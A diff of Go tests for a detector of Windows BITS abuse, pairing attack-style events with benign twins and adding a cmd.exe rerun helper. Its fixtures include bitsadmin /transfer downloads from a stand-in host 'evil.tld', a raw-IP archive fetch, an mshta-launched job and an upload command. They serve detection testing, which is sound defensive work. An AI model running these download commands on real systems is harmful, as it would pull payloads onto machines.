@@ -1,11 +1,9 @@
 package hardened
 
 import (
-	"encoding/base64"
 	"slices"
 	"strings"
 	"testing"
-	"unicode/utf16"
 )
 
 // Event builders for the sources the detector reads.
@@ -60,14 +58,8 @@ func serviceChild(image, cmdline, parentCmd string) event {
 	return e
 }
 
-// encode is what powershell.exe -EncodedCommand takes: base64 of UTF-16LE.
-func encode(script string) string {
-	var b []byte
-	for _, u := range utf16.Encode([]rune(script)) {
-		b = append(b, byte(u), byte(u>>8))
-	}
-	return base64.StdEncoding.EncodeToString(b)
-}
+// encode is what powershell.exe -EncodedCommand takes.
+var encode = exEncode
 
 // twinCase is an attack and its nearest benign twin: the attack must alert
 // and carry the indicator, the twin must do neither.
@@ -155,7 +147,7 @@ var twinCases = []twinCase{
 		transfer(`https://evil.tld/payload.csv`)},
 	{"archive from a raw IP (Bits-Client 60)", "archive_download",
 		ev("EventCode", "60", "url", `http://203.0.113.7/a.zip`, "name", "job"),
-		ev("EventCode", "60", "url", `http://203.0.113.7/a.csv`, "name", "job")},
+		ev("EventCode", "60", "url", `http://10.0.0.5/a.csv`, "name", "job")},
 	{"image extension on a bitsadmin download", "disguised_extension",
 		bitsadmin(`/transfer job https://evil.tld/a.png D:\data\a.png`),
 		bitsadmin(`/transfer job https://evil.tld/a.csv D:\data\a.csv`)},
@@ -217,7 +209,7 @@ var twinCases = []twinCase{
 	{"job from a script host", "bits_job_from_lolbin",
 		jobCreated(`C:\Windows\System32\mshta.exe`),
 		jobCreated(`C:\Windows\System32\wuauclt.exe`)},
-	{"job from an unusual process in a user folder", "bits_job_from_unusual_process",
+	{"job from an unknown process in a user folder", "client_in_user_writable",
 		jobCreated(`C:\Users\alice\AppData\Local\Temp\updater.exe`),
 		jobCreated(`C:\Windows\System32\wuauclt.exe`)},
 	{"job client in a user folder vs in Program Files", "client_in_user_writable",
@@ -258,7 +250,7 @@ func TestTwins(t *testing.T) {
 			if a.risk < AlertThreshold || !a.has(c.indicator) {
 				t.Errorf("attack: RiskScore %d, Indicators %v; want >= %d with %s", a.risk, a.indicators, AlertThreshold, c.indicator)
 			}
-			b := score(t, d, c.twin)
+			b := score(t, d, viaCmd(c.twin))
 			if b.risk >= AlertThreshold || b.has(c.indicator) {
 				t.Errorf("twin: RiskScore %d, Indicators %v; want < %d without %s", b.risk, b.indicators, AlertThreshold, c.indicator)
 			}
@@ -266,9 +258,30 @@ func TestTwins(t *testing.T) {
 	}
 }
 
-func indicatorByName(name string) (indicator, bool) {
-	for i := range numIndicators {
-		if indicators[i].name == name {
+// viaCmd runs a bitsadmin or PowerShell process-creation twin from
+// cmd.exe instead. The SPL alerts on nearly every bitsadmin /transfer and
+// Start-BitsTransfer, and so does this mode (spl_alert); under cmd.exe the
+// SPL does not look, so the twin tests this mode's own indicators.
+func viaCmd(e event) event {
+	img := ""
+	if v := e["Image"]; len(v) == 1 {
+		img = strings.ToLower(v[0])
+	}
+	if e["OriginalFileName"] != nil || !strings.HasSuffix(img, `\bitsadmin.exe`) && !strings.HasSuffix(img, `\powershell.exe`) && !strings.HasSuffix(img, `\pwsh.exe`) {
+		return e
+	}
+	out := event{}
+	for k, v := range e {
+		out[k] = v
+	}
+	out["Image"] = []string{cmdExe}
+	out["CommandLine"] = []string{"cmd.exe /c " + e["CommandLine"][0]}
+	return out
+}
+
+func indicatorByName(name string) (int, bool) {
+	for i := range rules {
+		if rules[i].name == name {
 			return i, true
 		}
 	}
@@ -290,9 +303,14 @@ func TestEveryIndicatorIsExercised(t *testing.T) {
 			seen[ind] = true
 		}
 	}
-	for i := range numIndicators {
-		if !seen[indicators[i].name] {
-			t.Errorf("no test event raises %s", indicators[i].name)
+	for _, r := range rules {
+		for _, ind := range score(t, d, ev(r.attack...)).indicators {
+			seen[ind] = true
+		}
+	}
+	for _, r := range rules {
+		if !seen[r.name] {
+			t.Errorf("no test event raises %s", r.name)
 		}
 	}
 }
@@ -306,10 +324,11 @@ var weakCases = []struct {
 	{"bitsadmin /reset", bitsadmin(`/reset /allusers`), []string{"bitsadmin_reset"}},
 	{"bitsadmin /resume", bitsadmin(`/resume AtomicBITS`), []string{"bitsadmin_job_control"}},
 	{"bitsadmin /create", bitsadmin(`/create AtomicBITS`), []string{"bitsadmin_job_control"}},
-	{"bitsadmin /setnotifyflags", bitsadmin(`/SetNotifyFlags job 1`), []string{"notify_flags"}},
-	{"bitsadmin upload to the intranet", bitsadmin(`/transfer backup /upload http://fileserver.corp.local/drop D:\backup\db.bak`), []string{"bitsadmin_upload"}},
+	{"bitsadmin /setnotifyflags", viaCmd(bitsadmin(`/SetNotifyFlags job 1`)), []string{"notify_flags"}},
+	{"bitsadmin upload to the intranet", viaCmd(bitsadmin(`/transfer backup /upload http://fileserver.corp.local/drop D:\backup\db.bak`)), []string{"bitsadmin_upload"}},
 	{"job from PowerShell", jobCreated(powershellExe), []string{"bits_job_from_powershell"}},
-	{"job from a Program Files updater", jobCreated(`C:\Program Files\Vendor\agent.exe`), []string{"bits_job_from_unusual_process"}},
+	{"job from a Program Files updater", jobCreated(`C:\Program Files\Vendor\agent.exe`), []string{"bits_job_from_unknown_client"}},
+	{"PowerShell that only names its own .exe (the SPL's defect)", powershell(`-NoProfile -c Get-Date`), nil},
 	{"external transfer", transfer(`https://evil.tld/a.csv`), []string{"external_url"}},
 	{"private-IP transfer", transfer(`http://10.0.0.5/a.csv`), []string{"private_ip_url"}},
 	{"ISO from a public mirror", transfer(`https://releases.ubuntu.com/20.04.3/ubuntu-20.04.3-desktop-amd64.iso`), []string{"archive_download", "external_url"}},
@@ -370,6 +389,11 @@ func TestEvasionVariants(t *testing.T) {
 	} {
 		p := score(t, d, c.plain)
 		v := score(t, d, c.variant)
+		// spl_alert depends on the image the SPL tests, which some
+		// variants change (cmd.exe, pwsh.exe): compare the rest.
+		notSPL := func(s string) bool { return s == "spl_alert" }
+		p.indicators = slices.DeleteFunc(slices.Clone(p.indicators), notSPL)
+		v.indicators = slices.DeleteFunc(slices.Clone(v.indicators), notSPL)
 		want := slices.Clone(p.indicators)
 		if c.obfuscate {
 			want = append(want, "quote_obfuscation")
